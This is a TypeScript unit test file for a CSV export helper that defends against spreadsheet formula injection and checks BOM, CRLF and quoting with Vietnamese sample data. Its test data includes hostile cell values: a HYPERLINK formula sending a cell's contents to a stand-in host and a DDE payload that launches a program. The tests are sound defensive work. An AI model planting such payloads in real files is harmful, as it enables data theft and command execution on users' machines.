import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

describe('csvCell / toCsv', () => {
  it('defuses every cell that a spreadsheet would read as a formula', () => {
    for (const hostile of ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']) {
      expect(csvCell(hostile)).toBe(`'${hostile}`);
    }
    expect(csvCell('Nguyễn Văn An')).toBe('Nguyễn Văn An');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
  });

  it('writes a BOM, CRLF, quotes where needed, and reads back cell for cell', () => {
    const text = toCsv(['Mã', 'Họ tên'], [['CB1', 'Lê "Tư", Hà Nội'], ['CB2', '=1+1'], ['CB3', ' a;b ']]);
    expect(text.startsWith('\uFEFFMã,Họ tên\r\n')).toBe(true);
    const back = parse(text.slice(1), { relax_column_count: true }) as string[][];
    expect(back).toEqual([
      ['Mã', 'Họ tên'],
      ['CB1', 'Lê "Tư", Hà Nội'],
      ['CB2', "'=1+1"],
      ['CB3', ' a;b '],
    ]);
  });
});
